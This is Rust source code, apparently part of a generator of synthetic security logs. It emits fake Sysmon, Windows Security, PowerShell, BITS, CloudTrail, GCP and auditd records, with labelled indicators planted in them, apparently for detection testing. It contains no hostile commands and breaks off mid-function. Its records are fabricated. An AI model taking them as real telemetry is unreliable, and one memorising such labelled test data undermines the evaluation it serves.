//! One event, as one line of JSON.

use crate::draw::{Draw, Stamp, mix};
use crate::truth::{Kind, Mark};
use crate::world::{Host, Process, Program, SYSTEM, World};

macro_rules! put {
    ($line:expr, $($part:expr),* $(,)?) => {{ $( Put::put(&$part, $line); )* }};
}

/// Something that can be appended to a line.
trait Put {
    fn put(&self, line: &mut Vec<u8>);
}

impl Put for str {
    fn put(&self, line: &mut Vec<u8>) {
        line.extend_from_slice(self.as_bytes());
    }
}

impl<T: Put + ?Sized> Put for &T {
    fn put(&self, line: &mut Vec<u8>) {
        (*self).put(line);
    }
}

impl Put for String {
    fn put(&self, line: &mut Vec<u8>) {
        line.extend_from_slice(self.as_bytes());
    }
}

impl Put for [u8] {
    fn put(&self, line: &mut Vec<u8>) {
        line.extend_from_slice(self);
    }
}

impl Put for u64 {
    fn put(&self, line: &mut Vec<u8>) {
        let mut digits = [0u8; 20];
        let mut at = digits.len();
        let mut rest = *self;
        loop {
            at -= 1;
            digits[at] = b'0' + (rest % 10) as u8;
            rest /= 10;
            if rest == 0 {
                break;
            }
        }
        line.extend_from_slice(&digits[at..]);
    }
}

impl Put for u32 {
    fn put(&self, line: &mut Vec<u8>) {
        u64::from(*self).put(line);
    }
}

/// The last so many hexadecimal digits of a number.
struct Hex(u64, usize);

impl Put for Hex {
    fn put(&self, line: &mut Vec<u8>) {
        let mut digits = [0u8; 16];
        for (i, digit) in digits[..self.1].iter_mut().enumerate() {
            *digit = b"0123456789abcdef"[(self.0 >> (4 * (self.1 - 1 - i)) & 15) as usize];
        }
        line.extend_from_slice(&digits[..self.1]);
    }
}

/// `{…}` around a random GUID.
struct Guid(u64);

impl Put for Guid {
    fn put(&self, line: &mut Vec<u8>) {
        let (a, b) = (mix(self.0), mix(self.0 ^ 0x5555_AAAA_5555_AAAA));
        put!(
            line,
            "{",
            Hex(a >> 32, 8),
            "-",
            Hex(a >> 16, 4),
            "-4",
            Hex(a, 3),
            "-a",
            Hex(b >> 48, 3),
            "-",
            Hex(b, 12),
            "}"
        );
    }
}

/// Sysmon's GUID of a process: machine, start, serial.
struct ProcessGuid<'a>(&'a Host, u64);

impl Put for ProcessGuid<'_> {
    fn put(&self, line: &mut Vec<u8>) {
        let x = mix(self.1);
        put!(
            line,
            "{",
            self.0.guid,
            "-",
            Hex(x >> 48, 4),
            "-",
            Hex(x >> 32, 4),
            "-",
            Hex(x >> 16, 4),
            "-",
            Hex(x, 4),
            "00000000}"
        );
    }
}

/// The provider of Sysmon and of Security records, and what their every record repeats.
const SYSMON: &str = r#"","SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","UserID":"S-1-5-18","EventID":"#;
const SECURITY: &str =
    r#"","SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","EventID":"#;

/// How many in a thousand, and what.
const MIX: [(u16, Event); 19] = [
    (170, Event::Connection),
    (120, Event::FileCreate),
    (110, Event::ImageLoad),
    (110, Event::Dns),
    (90, Event::RegistrySet),
    (70, Event::ProcessCreate),
    (60, Event::ProcessEnd),
    (45, Event::Logon),
    (40, Event::RegistryKey),
    (40, Event::ProcessAccess),
    (30, Event::Logoff),
    (30, Event::Created4688),
    (24, Event::Permitted5156),
    (18, Event::CloudTrail),
    (15, Event::Privileges),
    (12, Event::Script),
    (7, Event::LogonFailed),
    (6, Event::Auditd),
    (3, Event::Gcp),
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Event {
    ProcessCreate,
    Connection,
    ProcessEnd,
    ImageLoad,
    ProcessAccess,
    FileCreate,
    RegistryKey,
    RegistrySet,
    Dns,
    Logon,
    LogonFailed,
    Logoff,
    Privileges,
    Created4688,
    Permitted5156,
    Script,
    Bits,
    CloudTrail,
    Gcp,
    Auditd,
    Journal,
}

/// Writes the events of one file.
pub struct Writer<'w> {
    world: &'w World,
    draw: Draw,
    by_chance: [Event; 1024],
    running: Vec<Process>,
    file: u32,
    started: u64,
    record: u64,
}

impl<'w> Writer<'w> {
    pub fn new(world: &'w World, seed: u64, file: u32, first: u64) -> Writer<'w> {
        let mut draw = Draw::new(seed, u64::from(file));
        let running = world.processes(&mut draw, file);
        let mut by_chance = [Event::Connection; 1024];
        let mut at = 0;
        for (of_thousand, event) in MIX {
            let places = usize::from(of_thousand) * 1024 / 1000;
            by_chance[at..at + places].fill(event);
            at += places;
        }
        // What rounding left over: the two rarest.
        by_chance[1022] = Event::Bits;
        by_chance[1023] = Event::Journal;
        Writer { world, draw, by_chance, running, file, started: 0, record: first }
    }

    /// Appends one line. `mark` is what has to stand in it.
    pub fn line(&mut self, line: &mut Vec<u8>, now: &Stamp, mark: Option<&Mark>) {
        self.record += 1;
        let (event, given) = match mark {
            None => (self.by_chance[self.draw.index(1024)], None),
            Some(Mark::Attack) => return self.attack(line, now),
            Some(Mark::Indicator { kind, value }) => {
                let able: &[Event] = match kind {
                    Kind::Ip => &[
                        Event::Connection,
                        Event::Permitted5156,
                        Event::Logon,
                        Event::LogonFailed,
                        Event::CloudTrail,
                    ],
                    Kind::Domain => &[Event::Dns, Event::Connection],
                    Kind::Sha256 | Kind::Md5 => &[Event::ProcessCreate, Event::ImageLoad],
                    Kind::Url => &[Event::Bits],
                    Kind::Email => &[Event::Gcp],
                };
                (able[self.draw.index(able.len())], Some((*kind, value.as_str())))
            }
        };
        match event {
            Event::ProcessCreate => self.process_create(line, now, given),
            Event::Connection => self.connection(line, now, given),
            Event::ProcessEnd => self.process_end(line, now),
            Event::ImageLoad => self.image_load(line, now, given),
            Event::ProcessAccess => self.process_access(line, now),
            Event::FileCreate => self.file_create(line, now),
            Event::RegistryKey => self.registry(line, now, false),
            Event::RegistrySet => self.registry(line, now, true),
            Event::Dns => self.dns(line, now, given),
            Event::Logon => self.logon(line, now, given),
            Event::LogonFailed => self.logon_failed(line, now, given),
            Event::Logoff => self.logoff(line, now),
            Event::Privileges => self.privileges(line, now),
            Event::Created4688 => self.created_4688(line, now),
            Event::Permitted5156 => self.permitted_5156(line, now, given),
            Event::Script => self.script(line, now),
            Event::Bits => self.bits(line, now, given),
            Event::CloudTrail => self.cloudtrail(line, now, given),
            Event::Gcp => self.gcp(line, now, given),
            Event::Auditd => self.auditd(line, now),
            Event::Journal => self.journal(line, now),
        }
    }

    fn some_process(&mut self) -> Process {
        let at = self.draw.index(self.running.len());
        self.running[at].clone()
    }

    fn new_process(&mut self) -> Process {
        self.started += 1;
        let process = self.world.process(&mut self.draw, u64::from(self.file) << 32 | self.started);
        let at = self.draw.index(self.running.len());
        self.running[at] = process.clone();
        process
    }

    fn host(&self, process: &Process) -> &'w Host {
        &self.world.hosts[usize::from(process.host)]
    }

    fn program(&self, index: u16) -> &'w Program {
        &self.world.programs[usize::from(index)]
    }

    fn head(&mut self, line: &mut Vec<u8>, now: &Stamp, host: &Host, of: &str) {
        put!(
            line,
            r#"{"@timestamp":""#,
            now.date[..],
            "T",
            now.millis(),
            r#"Z","Hostname":""#,
            host.name,
            of
        );
    }

    /// What Sysmon's records of one process have in common, and the start of the rest.
    fn sysmon(&mut self, line: &mut Vec<u8>, now: &Stamp, process: &Process, id: u32) {
        let host = self.host(process);
        self.head(line, now, host, SYSMON);
        put!(
            line,
            id,
            r#","RecordNumber":"#,
            self.record,
            r#","RuleName":"-","UtcTime":""#,
            now.date[..],
            " ",
            now.millis()
        );
        put!(
            line,
            r#"","ProcessGuid":""#,
            ProcessGuid(host, process.serial),
            r#"","ProcessId":""#,
            process.pid
        );
        put!(line, r#"","Image":""#, self.program(process.program).path, r#"","User":""#);
        self.account(line, process.user);
    }

    fn account(&self, line: &mut Vec<u8>, user: u16) {
        match user {
            SYSTEM => put!(line, r"NT AUTHORITY\\SYSTEM"),
            user => put!(line, r"CORP\\", self.world.users[usize::from(user)].name),
        }
    }

    fn hashes(line: &mut Vec<u8>, program: &Program, given: Option<(Kind, &str)>) {
        put!(line, r#"","Hashes":"MD5="#);
        match given {
            Some((Kind::Md5, value)) => put!(line, value.to_uppercase()),
            _ => put!(line, program.md5),
        }
        put!(line, ",SHA256=");
        match given {
            Some((Kind::Sha256, value)) => put!(line, value.to_uppercase()),
            _ => put!(line, program.sha256),
        }
        put!(line, ",IMPHASH=", program.imphash);
    }

    /// The words after the program.
    fn arguments(&mut self, line: &mut Vec<u8>, program: u16) {
        let draw = &mut self.draw;
        match program {
            0 => {
                const SERVICES: [&str; 8] =
                    ["BITS", "Themes", "Schedule", "wuauserv", "Winmgmt", "lfsvc", "UsoSvc", "AppXSvc"];
                let group = draw.pick(&["netsvcs", "LocalService", "NetworkService", "appmodel"]);
                put!(line, " -k ", group, " -p -s ", draw.pick(&SERVICES));
            }
            1 => {
                put!(
                    line,
                    " --type=",
                    draw.pick(&["renderer", "utility", "gpu-process"]),
                    " --field-trial-handle="
                );
                put!(
                    line,
                    draw.below(9000),
                    ",i,",
                    draw.next(),
                    ",",
                    draw.next(),
                    ",262144 --lang=en-GB --renderer-client-id="
                );
                put!(
                    line,
                    draw.below(400),
                    " --mojo-platform-channel-handle=",
                    draw.below(9000),
                    " /prefetch:",
                    draw.below(9)
                );
            }
            5 => put!(line, " -ServerName:App.AppX", Hex(draw.next(), 16), ".mca"),
            11 => put!(line, " -secured -Embedding"),
            17 => put!(line, " /Processid:", Guid(draw.next())),
            _ => match draw.below(5) {
                0 => put!(line, " --session ", Guid(draw.next()), " --port ", 20_000 + draw.below(20_000)),
                1 => put!(line, " /task:", draw.below(100_000), " /quiet"),
                2 => {
                    let user = &self.world.users[self.world.user(draw) as usize].name;
                    put!(
                        line,
                        r#" --profile \"C:\\Users\\"#,
                        user,
                        r"\\AppData\\Local\\profile-",
                        draw.below(64),
                        r#"\""#
                    );
                }
                3 => put!(
                    line,
                    " open ",
                    r"C:\\Data\\",
                    draw.pick(&FOLDERS),
                    r"\\",
                    Hex(draw.next(), 8),
                    ".dat"
                ),
                _ => {}
            },
        }
    }

    fn command_line(&mut self, line: &mut Vec<u8>, process: &Process) {
        put!(line, r#"\""#, self.program(process.program).path, r#"\""#);
        self.arguments(line, process.program);
    }

    fn process_create(&mut self, line: &mut Vec<u8>, now: &Stamp, given: Option<(Kind, &str)>) {
        let process = self.new_process();
        let (host, program) = (self.host(&process), self.program(process.program));
        self.sysmon(line, now, &process, 1);
        put!(
            line,
            r#"","FileVersion":"10.0."#,
            17_000 + u32::from(process.program),
            r#".1","Description":""#,
            program.product
        );
        put!(
            line,
            r#"","Product":""#,
            program.product,
            r#"","Company":""#,
            program.company,
            r#"","OriginalFileName":""#,
            program.file
        );
        put!(line, r#"","CommandLine":""#);
        self.command_line(line, &process);
        put!(
            line,
            r#"","CurrentDirectory":"C:\\Windows\\system32\\","LogonGuid":""#,
            ProcessGuid(host, u64::from(process.user))
        );
        put!(line, r#"","LogonId":"0x"#, Hex(mix(u64::from(process.user) ^ process.serial >> 8), 6));
        put!(
            line,
            r#"","TerminalSessionId":""#,
            u32::from(process.user != SYSTEM),
            r#"","IntegrityLevel":""#
        );
        put!(line, if process.user == SYSTEM { "System" } else { "Medium" });
        Self::hashes(line, program, given);
        let parent = self.program(process.parent);
        put!(
            line,
            r#"","ParentProcessGuid":""#,
            ProcessGuid(host, process.parent_serial),
            r#"","ParentProcessId":""#,
            process.parent_pid
        );
        put!(line, r#"","ParentImage":""#, parent.path, r#"","ParentCommandLine":""#, parent.path, "\"}\n");
    }

    fn connection(&mut self, line: &mut Vec<u8>, now: &Stamp, given: Option<(Kind, &str)>) {
        let process = self.some_process();
        let (host, world) = (self.host(&process), self.world);
        self.sysmon(line, now, &process, 3);
        let internal = self.draw.one_in(4);
        put!(
            line,
            r#"","Protocol":""#,
            self.draw.pick(&["tcp", "tcp", "tcp", "udp"]),
            r#"","Initiated":"true","SourceIsIpv6":"false","SourceIp":""#
        );
        put!(
            line,
            host.address,
            r#"","SourceHostname":""#,
            host.name,
            r#"","SourcePort":""#,
            49_152 + self.draw.below(16_000)
        );
        put!(line, r#"","SourcePortName":"-","DestinationIsIpv6":"false","DestinationIp":""#);
        match given {
            Some((Kind::Ip, value)) => put!(line, value),
            _ if internal => put!(line, world.hosts[1700 + self.draw.index(200)].address),
            _ => put!(line, world.address(&mut self.draw)),
        }
        put!(line, r#"","DestinationHostname":""#);
        match given {
            Some((Kind::Domain, value)) => put!(line, value),
            _ if !internal && self.draw.one_in(3) => put!(line, world.name(&mut self.draw)),
            _ => put!(line, "-"),
        }
        let port = self.draw.pick(&["443", "443", "443", "80", "53", "8443", "445", "389"]);
        put!(line, r#"","DestinationPort":""#, port, r#"","DestinationPortName":"-"}"#, "\n");
    }

    fn process_end(&mut self, line: &mut Vec<u8>, now: &Stamp) {
        let process = self.some_process();
        self.sysmon(line, now, &process, 5);
        put!(line, "\"}\n");
    }

    fn image_load(&mut self, line: &mut Vec<u8>, now: &Stamp, given: Option<(Kind, &str)>) {
        let process = self.some_process();
        let library = self.world.library(&mut self.draw);
        self.sysmon(line, now, &process, 7);
        put!(
            line,
            r#"","ImageLoaded":""#,
            library.path,
            r#"","FileVersion":"6.2.0.1","Description":""#,
            library.product
        );
        put!(
            line,
            r#"","Product":""#,
            library.product,
            r#"","Company":""#,
            library.company,
            r#"","OriginalFileName":""#,
            library.file
        );
        Self::hashes(line, library, given);
        put!(
            line,
            r#"","Signed":"true","Signature":""#,
            library.company,
            r#"","SignatureStatus":"Valid"}"#,
            "\n"
        );
    }

    fn process_access(&mut self, line: &mut Vec<u8>, now: &Stamp) {
        let (source, mut target) = (self.some_process(), self.some_process());
        // What opens lsass.exe is never ordinary.
        if self.program(target.program).file == "lsass.exe" {
            target.program = 2;
        }
        let host = self.host(&source);
        self.head(line, now, host, SYSMON);
        put!(
            line,
            r#"10,"RecordNumber":"#,
            self.record,
            r#","RuleName":"-","UtcTime":""#,
            now.date[..],
            " ",
            now.millis()
        );
        put!(
            line,
            r#"","SourceProcessGUID":""#,
            ProcessGuid(host, source.serial),
            r#"","SourceProcessId":""#,
            source.pid
        );
        put!(
            line,
            r#"","SourceThreadId":""#,
            self.draw.below(20_000),
            r#"","SourceImage":""#,
            self.program(source.program).path
        );
        put!(
            line,
            r#"","TargetProcessGUID":""#,
            ProcessGuid(host, target.serial),
            r#"","TargetProcessId":""#,
            target.pid
        );
        put!(
            line,
            r#"","TargetImage":""#,
            self.program(target.program).path,
            r#"","GrantedAccess":"0x1000","CallTrace":""#
        );
        put!(
            line,
            r"C:\\Windows\\SYSTEM32\\ntdll.dll+",
            Hex(0x9d104 + self.draw.below(40) * 16, 5),
            r"|C:\\Windows\\System32\\KERNELBASE.dll+"
        );
        put!(
            line,
            Hex(0x2c13e + self.draw.below(60) * 16, 5),
            "|",
            self.world.library(&mut self.draw).path,
            "+",
            Hex(self.draw.next(), 5)
        );
        put!(line, r#"","SourceUser":""#);
        self.account(line, source.user);
        put!(line, r#"","TargetUser":""#);
        self.account(line, target.user);
        put!(line, "\"}\n");
    }

    fn file_create(&mut self, line: &mut Vec<u8>, now: &Stamp) {
        let process = self.some_process();
        self.sysmon(line, now, &process, 11);
        put!(line, r#"","TargetFilename":""#);
        let draw = &mut self.draw;
        let user = match process.user {
            SYSTEM => "Public",
            user => &self.world.users[usize::from(user)].name,
        };
        match draw.below(4) {
            0 => put!(line, r"C:\\Windows\\Temp\\", Hex(draw.next(), 8), ".tmp"),
            1 => put!(
                line,
                r"C:\\Users\\",
                user,
                r"\\AppData\\Local\\Meridian\\Cache\\f_",
                Hex(draw.next(), 6)
            ),
            2 => put!(
                line,
                r"C:\\Users\\",
                user,
                r"\\Documents\\",
                draw.pick(&FOLDERS),
                r"\\",
                draw.pick(&DOCUMENTS),
                "-",
                draw.below(4000),
                ".nwx"
            ),
            _ => {
                put!(line, r"C:\\ProgramData\\", draw.pick(&FOLDERS), r"\\state\\", draw.below(300), ".json")
            }
        }
        put!(line, r#"","CreationUtcTime":""#, now.date[..], " ", now.millis(), "\"}\n");
    }

    fn registry(&mut self, line: &mut Vec<u8>, now: &Stamp, set: bool) {
        let process = self.some_process();
        self.sysmon(line, now, &process, if set { 13 } else { 12 });
        put!(line, r#"","EventType":""#, if set { "SetValue" } else { "CreateKey" }, r#"","TargetObject":""#);
        let draw = &mut self.draw;
        match draw.below(3) {
            0 => put!(
                line,
                r"HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\",
                Guid(draw.below(6000)),
                r"\\LeaseObtainedTime"
            ),
            1 => {
                let sid = &self.world.users[self.world.user(draw) as usize].sid;
                put!(
                    line,
                    r"HKU\\",
                    sid,
                    r"\\Software\\",
                    draw.pick(&FOLDERS),
                    r"\\Recent\\Item",
                    draw.below(50)
                );
            }
            _ => put!(
                line,
                r"HKLM\\SOFTWARE\\Palmgrove\\Agent\\Health\\",
                draw.pick(&FOLDERS),
                r"\\Counter",
                draw.below(200)
            ),
        }
        if set {
            put!(line, r#"","Details":"DWORD (0x"#, Hex(draw.next(), 8), ")");
        }
        put!(line, "\"}\n");
    }

    fn dns(&mut self, line: &mut Vec<u8>, now: &Stamp, given: Option<(Kind, &str)>) {
        let process = self.some_process();
        self.sysmon(line, now, &process, 22);
        put!(line, r#"","QueryName":""#);
        match given {
            Some((_, value)) => put!(line, value),
            // Content networks and trackers give every visitor a name.
            None if self.draw.one_in(20) => {
                put!(line, "s", Hex(self.draw.next(), 6), ".", self.world.name(&mut self.draw))
            }
            None if self.draw.one_in(8) => put!(line, self.world.hosts[1700 + self.draw.index(200)].name),
            None => put!(line, self.world.name(&mut self.draw)),
        }
        if self.draw.one_in(12) {
            put!(line, r#"","QueryStatus":"9003","QueryResults":"-"}"#, "\n");
        } else {
            put!(
                line,
                r#"","QueryStatus":"0","QueryResults":"::ffff:"#,
                self.world.address(&mut self.draw),
                ";\"}\n"
            );
        }
    }

    fn security(&mut self, line: &mut Vec<u8>, now: &Stamp, host: &Host, id: u32) {
        self.head(line, now, host, SECURITY);
        put!(
            line,
            id,
            r#","RecordNumber":"#,
            self.record,
            r#","Task":"#,
            id % 7 + 12_540,
            r#","Version":2,"EventType":""#,
            if id == 4625 { "AUDIT_FAILURE" } else { "AUDIT_SUCCESS" }
        );
    }

    fn logon(&mut self, line: &mut Vec<u8>, now: &Stamp, given: Option<(Kind, &str)>) {
        let world = self.world;
        let at = world.windows_host(&mut self.draw);
        let user = &world.users[usize::from(world.user_of(at, &mut self.draw))];
        self.security(line, now, &world.hosts[usize::from(at)], 4624);
        put!(
            line,
            r#"","SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":""#
        );
        put!(
            line,
            user.sid,
            r#"","TargetUserName":""#,
            user.name,
            r#"","TargetDomainName":"CORP","TargetLogonId":"0x"#,
            Hex(self.draw.next(), 8)
        );
        put!(
            line,
            r#"","LogonType":""#,
            self.draw.pick(&["3", "3", "3", "2", "7", "10"]),
            r#"","LogonProcessName":"Kerberos","AuthenticationPackageName":"Kerberos","WorkstationName":"-","LogonGuid":""#
        );
        put!(
            line,
            Guid(self.draw.next()),
            r#"","KeyLength":"0","ProcessId":"0x0","ProcessName":"-","IpAddress":""#
        );
        match given {
            Some((_, value)) => put!(line, value),
            None => put!(line, world.hosts[self.draw.index(1900)].address),
        }
        put!(
            line,
            r#"","IpPort":""#,
            49_152 + self.draw.below(16_000),
            r#"","ImpersonationLevel":"%%1833","ElevatedToken":"%%1843"}"#,
            "\n"
        );
    }

    fn logon_failed(&mut self, line: &mut Vec<u8>, now: &Stamp, given: Option<(Kind, &str)>) {
        let world = self.world;
        let at = world.windows_host(&mut self.draw);
        let user = &world.users[usize::from(world.user_of(at, &mut self.draw))];
        self.security(line, now, &world.hosts[usize::from(at)], 4625);
        put!(
            line,
            r#"","SubjectUserSid":"S-1-0-0","SubjectUserName":"-","TargetUserSid":"S-1-0-0","TargetUserName":""#,
            user.name
        );
        put!(
            line,
            r#"","TargetDomainName":"CORP","Status":"0xc000006d","FailureReason":"%%2313","SubStatus":"0xc000006a","LogonType":"3","LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":""#
        );
        put!(line, world.hosts[self.draw.index(1900)].name, r#"","ProcessName":"-","IpAddress":""#);
        match given {
            Some((_, value)) => put!(line, value),
            None => put!(line, world.hosts[self.draw.index(1900)].address),
        }
        put!(line, r#"","IpPort":""#, 49_152 + self.draw.below(16_000), "\"}\n");
    }

    fn logoff(&mut self, line: &mut Vec<u8>, now: &Stamp) {
        let world = self.world;
        let at = world.windows_host(&mut self.draw);
        let user = &world.users[usize::from(world.user_of(at, &mut self.draw))];
        self.security(line, now, &world.hosts[usize::from(at)], 4634);
        put!(
            line,
            r#"","TargetUserSid":""#,
            user.sid,
            r#"","TargetUserName":""#,
            user.name,
            r#"","TargetDomainName":"CORP","TargetLogonId":"0x"#
        );
        put!(line, Hex(self.draw.next(), 8), r#"","LogonType":"3"}"#, "\n");
    }

    fn privileges(&mut self, line: &mut Vec<u8>, now: &Stamp) {
        let world = self.world;
        let at = world.windows_host(&mut self.draw);
        let user = &world.users[usize::from(world.user_of(at, &mut self.draw))];
        self.security(line, now, &world.hosts[usize::from(at)], 4672);
        put!(
            line,
            r#"","SubjectUserSid":""#,
            user.sid,
            r#"","SubjectUserName":""#,
            user.name,
            r#"","SubjectDomainName":"CORP","SubjectLogonId":"0x"#
        );
        put!(
            line,
            Hex(self.draw.next(), 8),
            r#"","PrivilegeList":"SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege"}"#,
            "\n"
        );
    }

    fn created_4688(&mut self, line: &mut Vec<u8>, now: &Stamp) {
        let process = self.new_process();
        let (host, world) = (self.host(&process), self.world);
        self.security(line, now, host, 4688);
        let (sid, name) = match process.user {
            SYSTEM => ("S-1-5-18", "SYSTEM"),
            user => {
                (world.users[usize::from(user)].sid.as_str(), world.users[usize::from(user)].name.as_str())
            }
        };
        put!(
            line,
            r#"","SubjectUserSid":""#,
            sid,
            r#"","SubjectUserName":""#,
            name,
            r#"","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7","NewProcessId":"0x"#
        );
        put!(
            line,
            Hex(u64::from(process.pid), 4),
            r#"","NewProcessName":""#,
            self.program(process.program).path,
            r#"","TokenElevationType":"%%1936","ProcessId":"0x"#
        );
        put!(line, Hex(u64::from(process.parent_pid), 4), r#"","CommandLine":""#);
        self.command_line(line, &process);
        put!(
            line,
            r#"","TargetUserSid":"S-1-0-0","TargetUserName":"-","TargetDomainName":"-","TargetLogonId":"0x0","ParentProcessName":""#
        );
        put!(line, self.program(process.parent).path, r#"","MandatoryLabel":"S-1-16-8192"}"#, "\n");
    }

    fn permitted_5156(&mut self, line: &mut Vec<u8>, now: &Stamp, given: Option<(Kind, &str)>) {
        let process = self.some_process();
        let (host, world) = (self.host(&process), self.world);
        self.security(line, now, host, 5156);
        put!(
            line,
            r#"","ProcessId":""#,
            process.pid,
            r#"","Application":"\\device\\harddiskvolume3\\"#,
            self.program(process.program).path[4..]
        );
        put!(
            line,
            r#"","Direction":"%%14593","SourceAddress":""#,
            host.address,
            r#"","SourcePort":""#,
            49_152 + self.draw.below(16_000),
            r#"","DestAddress":""#
        );
        match given {
            Some((_, value)) => put!(line, value),
            None => put!(line, world.address(&mut self.draw)),
        }
        put!(
            line,
            r#"","DestPort":"443","Protocol":"6","FilterRTID":""#,
            70_000 + self.draw.below(4000),
            r#"","LayerName":"%%14611","LayerRTID":"48","RemoteUserID":"S-1-0-0","RemoteMachineID":"S-1-0-0"}"#,
            "\n"
        );
    }

    fn script(&mut self, line: &mut Vec<u8>, now: &Stamp) {
        let host = &self.world.hosts[usize::from(self.world.windows_host(&mut self.draw))];
        self.head(line, now, host, r#"","SourceName":"Microsoft-Windows-PowerShell","Channel":"Microsoft-Windows-PowerShell/Operational","Severity":"VERBOSE","EventID":4104,"RecordNumber":"#);
        put!(line, self.record, r#","MessageNumber":"1","MessageTotal":"1","ScriptBlockText":""#);
        let draw = &mut self.draw;
        match draw.below(3) {
            0 => put!(
                line,
                r#"$items = Get-ChildItem -Path 'C:\\Data\\"#,
                draw.pick(&FOLDERS),
                r#"' -Filter '*.nwx'\r\nforeach ($item in $items) {\r\n    $item.Length -gt "#,
                draw.below(1 << 20),
                r#"\r\n}\r\n"#
            ),
            1 => put!(
                line,
                r#"function Get-Report"#,
                draw.below(800),
                r#" {\r\n    param([string]$Name)\r\n    Write-Output \"Report $Name of "#,
                draw.pick(&DOCUMENTS),
                r#"\"\r\n}\r\n"#
            ),
            _ => put!(
                line,
                r#"Import-Csv 'C:\\Data\\"#,
                draw.pick(&FOLDERS),
                r#"\\list-"#,
                draw.below(5000),
                r#".csv' | Sort-Object Name | Select-Object -First "#,
                draw.below(100),
                r#"\r\n"#
            ),
        }
        put!(
            line,
            r#"","ScriptBlockId":""#,
            Guid(self.draw.next()),
            r#"","Path":"C:\\Scripts\\"#,
            self.draw.pick(&FOLDERS),
            ".ps1\"}\n"
        );
    }

    fn bits(&mut self, line: &mut Vec<u8>, now: &Stamp, given: Option<(Kind, &str)>) {
        let host = &self.world.hosts[usize::from(self.world.windows_host(&mut self.draw))];
        self.head(line, now, host, r#"","SourceName":"Microsoft-Windows-Bits-Client","Channel":"Microsoft-Windows-Bits-Client/Operational","Severity":"INFO","EventID":59,"RecordNumber":"#);
        put!(
            line,
            self.record,
            r#","transferId":""#,
            Guid(self.draw.next()),
            r#"","name":"Palmgrove update","Id":""#,
            Guid(self.draw.next()),
            r#"","url":""#
        );
        match given {
            Some((_, value)) => put!(line, value),
            None => {
                put!(line, crate::truth::url(crate::truth::Class::Background, self.draw.below(20_000) as u32))
            }
        }
        put!(
            line,
            r#"","peer":"-","fileTime":""#,
            now.date[..],
            "T",
            now.seconds(),
            r#"Z","fileLength":""#,
            self.draw.below(1 << 26),
            r#"","bytesTotal":"0","bytesTransferred":"0"}"#,
            "\n"
        );
    }

    fn cloudtrail(&mut self, line: &mut Vec<u8>, now: &Stamp, given: Option<(Kind, &str)>) {
        const CALLS: [(&str, &str); 8] = [
            ("ec2", "DescribeInstances"),
            ("s3", "GetObject"),
            ("sts", "AssumeRole"),
            ("dynamodb", "Query"),
            ("logs", "PutLogEvents"),
            ("kms", "Decrypt"),
            ("lambda", "Invoke"),
            ("ec2", "DescribeSubnets"),
        ];
        const REGIONS: [&str; 4] = ["eu-west-1", "eu-central-1", "us-east-1", "eu-north-1"];
        let world = self.world;
        let user = &world.users[usize::from(world.user(&mut self.draw))];
        let (service, call) = CALLS[self.draw.index(CALLS.len())];
        let account = 111_122_220_000 + self.draw.below(40);
        put!(
            line,
            r#"{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","principalId":"AIDAEXAMPLE"#,
            user.sid[user.sid.len() - 4..]
        );
        put!(
            line,
            r#"","arn":"arn:aws:iam::"#,
            account,
            ":user/",
            user.name,
            r#"","accountId":""#,
            account,
            r#"","userName":""#,
            user.name
        );
        put!(
            line,
            r#""},"eventTime":""#,
            now.date[..],
            "T",
            now.seconds(),
            r#"Z","eventSource":""#,
            service,
            r#".amazonaws.com","eventName":""#,
            call
        );
        put!(line, r#"","awsRegion":""#, self.draw.pick(&REGIONS), r#"","sourceIPAddress":""#);
        match given {
            Some((_, value)) => put!(line, value),
            None => put!(line, world.address(&mut self.draw)),
        }
        put!(
            line,
            r#"","userAgent":"example-sdk/2.15."#,
            self.draw.below(40),
            r#"","requestParameters":{"resource":"r-"#,
            Hex(self.draw.next(), 12),
            r#"","maxResults":"#
        );
        put!(
            line,
            self.draw.below(1000),
            r#"},"responseElements":null,"requestID":""#,
            Hex(self.draw.next(), 16),
            r#"","eventID":""#,
            Hex(self.draw.next(), 16),
            Hex(self.draw.next(), 16)
        );
        put!(
            line,
            r#"","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":""#,
            account,
            "\"}\n"
        );
    }

    fn gcp(&mut self, line: &mut Vec<u8>, now: &Stamp, given: Option<(Kind, &str)>) {
        const METHODS: [&str; 4] = [
            "storage.objects.get",
            "storage.objects.list",
            "v1.compute.instances.list",
            "google.pubsub.v1.Publisher.Publish",
        ];
        let world = self.world;
        let project = self.draw.below(30);
        put!(
            line,
            r#"{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{"principalEmail":""#
        );
        match given {
            Some((_, value)) => put!(line, value),
            None => {
                put!(line, world.users[usize::from(world.user(&mut self.draw))].name, "@mail.example.org")
            }
        }
        put!(
            line,
            r#""},"requestMetadata":{"callerIp":""#,
            world.address(&mut self.draw),
            r#""},"serviceName":"storage.googleapis.com","methodName":""#
        );
        put!(
            line,
            self.draw.pick(&METHODS),
            r#"","resourceName":"projects/_/buckets/data-"#,
            self.draw.below(400),
            "/objects/",
            Hex(self.draw.next(), 10)
        );
        put!(
            line,
            r#""},"insertId":""#,
            Hex(self.draw.next(), 14),
            r#"","resource":{"type":"gcs_bucket","labels":{"project_id":"example-"#,
            project
        );
        put!(
            line,
            r#""}},"timestamp":""#,
            now.date[..],
            "T",
            now.micros(),
            r#"Z","severity":"INFO","logName":"projects/example-"#,
            project,
            r#"/logs/cloudaudit.googleapis.com%2Fdata_access"}"#,
            "\n"
        );
    }

    fn auditd(&mut self, line: &mut Vec<u8>, now: &Stamp) {
        const TOOLS: [&str; 6] = ["ls", "grep", "sed", "date", "sleep", "cat"];
        let host = self.world.linux_host(&mut self.draw);
        let tool = self.draw.pick(&TOOLS);
        put!(
            line,
            r#"{"@timestamp":""#,
            now.date[..],
            "T",
            now.millis(),
            r#"Z","host":{"name":""#,
            host.name,
            r#""},"event":{"module":"auditd","action":"executed","category":["process"]},"auditd":{"sequence":"#
        );
